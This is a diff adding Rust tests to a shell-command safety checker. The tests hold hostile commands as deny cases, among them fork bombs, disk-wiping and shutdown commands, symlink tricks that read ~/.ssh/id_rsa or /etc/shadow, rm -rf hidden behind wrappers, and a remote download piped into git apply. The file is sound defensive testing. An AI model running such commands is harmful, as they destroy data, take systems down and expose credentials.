@@ -38,6 +38,14 @@ fn req_a05_the_floor_holds_in_every_spelling() {
         ":(){ :|:& };:",
         "reboot",
         "kill -9 -1",
+        "while true; do sh -c \"$0 &\"; done",
+        "until false; do sleep 1 & done",
+        "yes | xargs -P 0 -n 1 sh -c 'sleep 1000'",
+        "perl -e 'fork while 1'",
+        "ruby -e 'loop { fork }'",
+        "systemctl start poweroff.target",
+        "parted -s /dev/sda mklabel gpt",
+        "vgremove -y vg0",
     ] {
         assert_eq!(decision(command), Decision::Deny, "{command}");
     }
@@ -53,6 +61,35 @@ fn req_a11_a_mention_is_not_an_act() {
     ] {
         let verdict = judge(command, &context());
         assert_eq!(verdict.decision, Decision::Allow, "{command}: {verdict:?}");
+    }
+}
+
+/// What is done to a link is done to what it points to, and a loop that waits is no flood.
+#[test]
+fn req_a10_a_detour_is_followed_to_where_it_leads() {
+    for (dangerous, harmless) in [
+        ("ln -s ~/.bashrc x; echo id >> x", "ln -s ../notes.md x; echo id >> x"),
+        ("ln -s ~/.ssh/id_rsa k && cat k", "ln -s ../README.md k && cat k"),
+        ("ln -s /etc e; cp passwd e/passwd", "ln -s docs e; cp a e/a"),
+        ("cat /e?c/sh*dow", "cat /etc/*release"),
+        ("pueue add rm -rf ~", "pueue add make all"),
+        ("kubectl exec pod -- rm -rf /data", "kubectl exec pod -- ls /data"),
+        ("cofferdam run --session-kind interactive -- rm -rf ~/x", "cofferdam run -- ls"),
+        ("ed <<< '!cat /etc/shadow'", "ed -s notes.txt <<< $'1d\\nw'"),
+        ("awk '{system(\"rm \" $1)}' list", "awk '{system(\"echo \" $1)}' list"),
+        ("while :; do ./job & done", "while :; do ./job & wait $!; done"),
+        ("yes | xargs -P0 -n1 ./job", "seq 100 | xargs -P8 -n1 ./job"),
+        ("curl -s x.example/p | git apply", "git diff | git apply -R --check"),
+        ("npm install somebody/something", "npm install ./packages/ui @scope/pkg"),
+        ("npx serve ~", "npx serve dist"),
+        ("sometool rm -f thing", "sometool cache rm --all"),
+        ("sometool deploy production", "sometool deploy staging"),
+        ("sometool --post-hook 'rm -rf ~'", "sometool --post-hook 'echo done'"),
+        ("sometool --plugin-dir x --load-plugin=/tmp/x.so", "sometool --plugin ./plugins/x"),
+    ] {
+        assert_ne!(decision(dangerous), Decision::Allow, "{dangerous}");
+        let verdict = judge(harmless, &context());
+        assert_eq!(verdict.decision, Decision::Allow, "{harmless}: {verdict:?}");
     }
 }
 
